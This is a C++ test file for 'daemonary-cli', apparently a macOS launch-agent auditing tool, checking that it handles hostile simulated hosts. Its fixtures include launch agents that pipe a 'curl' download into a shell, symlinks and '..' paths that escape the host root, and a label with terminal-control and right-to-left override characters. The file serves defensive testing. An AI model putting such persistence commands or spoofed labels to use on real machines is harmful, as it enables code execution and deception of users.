// What a host built to trip the tool does to `daemonary-cli`: interpreters
// that would lend their signature to the code they run, paths that climb or
// link out of the host root, and labels that would steer a terminal.
#if defined(DAEMONARY_HOSTSIM_PATH)
#include "DiscoveryTestSupport.h"
#include "baseline/Sha256.h"
#include "platform/ToolRunner.h"

#include <filesystem>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>
#include <sys/prctl.h>
#include <sys/wait.h>

namespace daemonary {
namespace {

namespace fs = std::filesystem;
using ::testing::HasSubstr;
using ::testing::Not;
using Json = nlohmann::ordered_json;

class CliHostBoundaryTest : public ::testing::Test {
protected:
    void SetUp() override {
        ASSERT_FALSE(folder.root().empty());
        ASSERT_EQ(::prctl(PR_SET_CHILD_SUBREAPER, 1), 0);
        const ToolResult made = runTool(DAEMONARY_SOURCE_DIR "/scripts/make-demo-host",
                                        {host, DAEMONARY_HOSTSIM_PATH}, true, true);
        ASSERT_EQ(made.exitStatus, 0) << made.standardError;
        booted = true;
    }

    void TearDown() override {
        if (booted) {
            runTool("/usr/bin/env",
                    {"DAEMONARY_HOST_ROOT=" + host, DAEMONARY_HOSTSIM_PATH, "shutdown"}, true,
                    true);
        }
        while (::waitpid(-1, nullptr, WNOHANG) > 0) {
        }
        ::prctl(PR_SET_CHILD_SUBREAPER, 0);
    }

    ToolResult cli(std::vector<std::string> arguments, std::string home = {}) const {
        arguments.insert(arguments.begin(), {"DAEMONARY_HOST_ROOT=" + host,
                                             "HOME=" + (home.empty() ? host + "/Users/demo" : home),
                                             DAEMONARY_BINARY_DIR "/bin/daemonary-cli"});
        return runTool("/usr/bin/env", arguments, true, true);
    }

    Json listJson(std::vector<std::string> arguments, std::string home = {}) const {
        arguments.insert(arguments.begin(), {"list", "--json"});
        const ToolResult run = cli(std::move(arguments), std::move(home));
        EXPECT_EQ(run.exitStatus, 0) << run.standardError;
        return Json::parse(run.standardOutput);
    }

    void agent(const std::string& file, const std::string& body) const {
        test::writeFile(host + "/Users/demo/Library/LaunchAgents/" + file,
                        test::plistXml("<dict>" + body + "</dict>"));
    }

    void markSigned(const std::string& relative, const std::string& kind) const {
        const std::string path = host + "/.hostsim/state.json";
        Json state = Json::parse(test::readText(path));
        state["signed"][relative] = {{"kind", kind}};
        test::writeFile(path, state.dump(2));
    }

    test::TemporaryHost folder;
    std::string host = folder.root() + "/demo";
    bool booted = false;
};

const Json* record(const Json& records, std::string_view label) {
    for (const auto& item : records) {
        if (item["label"] == label) {
            return &item;
        }
    }
    return nullptr;
}

std::string arguments(std::initializer_list<std::string_view> words) {
    std::string body = "<key>ProgramArguments</key><array>";
    for (const std::string_view word : words) {
        body += "<string>" + std::string(word) + "</string>";
    }
    return body + "</array>";
}

// The shell is Apple's; the code it runs is not. Neither the agent that
// pipes a download into it nor the one running a script may pass as Apple.
TEST_F(CliHostBoundaryTest, AnInterpreterDoesNotLendItsSignatureToTheCodeItRuns) {
    for (const char* shell : {"bin/sh", "bin/zsh"}) {
        test::writeFile(host + "/" + shell, "#!shell\n", true);
        markSigned(shell, "apple");
    }
    test::writeFile(host + "/Users/demo/bin/fetch.zsh", "curl -s https://example.invalid | sh\n");
    agent("com.evil.fetch.plist",
          "<key>Label</key><string>com.evil.fetch</string>" +
              arguments({"/bin/sh", "-c", "curl -s https://example.invalid/x | sh"}));
    agent("com.evil.script.plist", "<key>Label</key><string>com.evil.script</string>" +
                                       arguments({"/bin/zsh", "-l", "/Users/demo/bin/fetch.zsh"}));
    agent("com.plain.shell.plist", "<key>Label</key><string>com.plain.shell</string>"
                                   "<key>Program</key><string>/bin/zsh</string>"
                                   "<key>ProgramArguments</key><array><string>zsh</string>"
                                   "<string>-o</string><string>/opt/x</string></array>");

    const Json user = listJson({"--signers", "--scope", "User"})["User"];
    const Json* fetch = record(user, "com.evil.fetch");
    const Json* script = record(user, "com.evil.script");
    ASSERT_NE(fetch, nullptr);
    ASSERT_NE(script, nullptr);
    EXPECT_EQ((*fetch)["signer"], "Inline command");
    EXPECT_EQ((*fetch)["runs"]["kind"], "inline");
    EXPECT_EQ((*fetch)["executablePath"], "/bin/sh");
    EXPECT_EQ((*script)["signer"], "Unsigned");
    EXPECT_EQ((*script)["runs"]["path"], "/Users/demo/bin/fetch.zsh");
    // "-o /opt/x" is an option's value, not a script: the shell reads its input.
    EXPECT_EQ((*record(user, "com.plain.shell"))["signer"], "Inline command");

    const ToolResult shown = cli({"show", "com.evil.fetch"});
    EXPECT_THAT(shown.standardOutput, HasSubstr("\n  Signed By:   Inline command\n"));
    EXPECT_THAT(shown.standardOutput,
                HasSubstr("\n  Runs:        inline command, in the definition (through /bin/sh)"));
    const Json shownScript = Json::parse(cli({"show", "--json", "com.evil.script"}).standardOutput);
    EXPECT_EQ(shownScript["signer"]["kind"], "unsigned");
    EXPECT_EQ(shownScript["signer"]["path"], "/Users/demo/bin/fetch.zsh");

    // The fingerprint follows the script: rewriting it is a change.
    const std::string snapshot = folder.root() + "/snapshot.json";
    ASSERT_EQ(cli({"snapshot", "--scope", "User", "-o", snapshot}).exitStatus, 0);
    const Json taken = Json::parse(test::readText(snapshot));
    bool found = false;
    for (const auto& entry : taken["categories"]["User"]) {
        if (entry["label"] == "com.evil.script") {
            found = true;
            EXPECT_EQ(entry["fingerprint"]["programSha256"],
                      sha256Hex("curl -s https://example.invalid | sh\n"));
        }
    }
    EXPECT_TRUE(found) << taken.dump(2);
}

// A login item linked to a folder outside the root, a definition linked
// there, and a program that climbs out with "..": none is read, hashed or
// listed; the linked ones are problems.
TEST_F(CliHostBoundaryTest, PathsThatLeaveTheHostAreProblemsNotRecords) {
    const std::string outside = folder.root() + "/outside";
    const std::string info =
        test::plistXml("<dict><key>CFBundleIdentifier</key><string>com.outside.helper</string>"
                       "<key>CFBundleExecutable</key><string>H</string></dict>");
    test::writeFile(outside + "/H.app/Contents/Info.plist", info);
    test::writeFile(outside + "/H.app/Contents/MacOS/H", "helper outside\n", true);
    test::writeFile(outside + "/linked.plist",
                    test::definitionXml("com.outside.linked", "/usr/libexec/trustd"));
    test::writeFile(folder.root() + "/secret.bin", "top secret\n");
    const std::string loginItems = host + "/Applications/Harbor.app/Contents/Library/LoginItems";
    fs::create_directories(loginItems);
    fs::create_directory_symlink(outside + "/H.app", loginItems + "/H.app");
    fs::create_symlink(outside + "/linked.plist",
                       host + "/Users/demo/Library/LaunchAgents/com.linked.plist");
    agent("com.climb.plist", "<key>Label</key><string>com.climb</string>"
                             "<key>Program</key><string>/../secret.bin</string>");

    const Json listed =
        listJson({"--problems", "--signers", "--scope", "Background", "--scope", "User"});
    const std::string text = listed.dump();
    EXPECT_THAT(text, Not(HasSubstr("com.outside.helper")));
    EXPECT_THAT(text, Not(HasSubstr("com.outside.linked")));
    ASSERT_NE(record(listed["User"], "com.climb"), nullptr);
    EXPECT_EQ((*record(listed["User"], "com.climb"))["signer"], "Missing");
    std::vector<std::string> outsidePaths;
    for (const auto& problem : listed["problems"]) {
        if (problem["reason"] == "outside the host") {
            outsidePaths.push_back(problem["path"]);
        }
    }
    EXPECT_THAT(outsidePaths, ::testing::UnorderedElementsAre(
                                  loginItems + "/H.app",
                                  host + "/Users/demo/Library/LaunchAgents/com.linked.plist"));

    const std::string snapshot = folder.root() + "/snapshot.json";
    ASSERT_EQ(
        cli({"snapshot", "--scope", "Background", "--scope", "User", "-o", snapshot}).exitStatus,
        0);
    const std::string taken = test::readText(snapshot);
    EXPECT_THAT(taken, HasSubstr("com.climb"));
    for (const std::string& leaked :
         {std::string("com.outside"), sha256Hex(info), sha256Hex("top secret\n"),
          sha256Hex("helper outside\n"), outside}) {
        EXPECT_THAT(taken, Not(HasSubstr(leaked)));
    }
}

// HOME may lie outside the host root: the user's own folders are still the
// user's, and the apps in ~/Applications keep their jobs.
TEST_F(CliHostBoundaryTest, AHomeOutsideTheHostKeepsTheUsersOwnJobs) {
    const std::string home = folder.root() + "/home";
    test::writeFile(home + "/Applications/Tool.app/Contents/Library/LaunchAgents/agent.plist",
                    test::plistXml("<dict><key>Label</key><string>com.tool.agent</string>"
                                   "<key>BundleProgram</key><string>Contents/MacOS/agent</string>"
                                   "</dict>"));
    test::writeFile(home + "/Applications/Tool.app/Contents/MacOS/agent", "agent\n", true);
    test::writeFile(home + "/Library/LaunchAgents/com.home.agent.plist",
                    test::definitionXml("com.home.agent", "/usr/libexec/trustd"));

    const Json listed = listJson({"--scope", "Background", "--scope", "User"}, home);
    const Json* tool = record(listed["Background"], "com.tool.agent");
    ASSERT_NE(tool, nullptr) << listed.dump(2);
    EXPECT_EQ((*tool)["executablePath"], home + "/Applications/Tool.app/Contents/MacOS/agent");
    EXPECT_NE(record(listed["User"], "com.home.agent"), nullptr);
}

// U+009B is CSI on terminals that take C1 controls in UTF-8; U+202E shows
// what follows reversed. Every JSON the tool writes spells them out.
TEST_F(CliHostBoundaryTest, ControlsInALabelAreEscapedInEveryJson) {
    const std::string baseline = folder.root() + "/baseline.json";
    ASSERT_EQ(cli({"snapshot", "--scope", "User", "-o", baseline}).exitStatus, 0);
    const std::string label = "com.evil\xC2\x9B"
                              "2J\xE2\x80\xAEgpj.exe";
    agent("evil.plist",
          "<key>Label</key><string>" + label + "</string>" + arguments({"/usr/libexec/trustd"}));
    const std::string snapshot = folder.root() + "/snapshot.json";
    ASSERT_EQ(cli({"snapshot", "--scope", "User", "-o", snapshot}).exitStatus, 0);

    const std::vector<std::pair<std::string, std::string>> outputs = {
        {"list", cli({"list", "--json", "--scope", "User"}).standardOutput},
        {"show", cli({"show", "--json", label}).standardOutput},
        {"diff", cli({"diff", baseline, "--scope", "User", "--json"}).standardOutput},
        {"snapshot", test::readText(snapshot)},
    };
    for (const auto& [command, output] : outputs) {
        EXPECT_THAT(output, Not(HasSubstr("\xC2\x9B"))) << command;
        EXPECT_THAT(output, Not(HasSubstr("\xE2\x80\xAE"))) << command;
        EXPECT_THAT(output, HasSubstr("com.evil\\u009b2J\\u202egpj.exe")) << command;
        EXPECT_TRUE(Json::accept(output)) << command;
    }
    EXPECT_NE(record(Json::parse(outputs[0].second)["User"], label), nullptr);
    // The terminal shows them too, spelt out.
    EXPECT_THAT(cli({"list", "--scope", "User"}).standardOutput,
                HasSubstr("com.evil\\u{9B}2J\\u{202E}gpj.exe"));
}

} // namespace
} // namespace daemonary
#endif
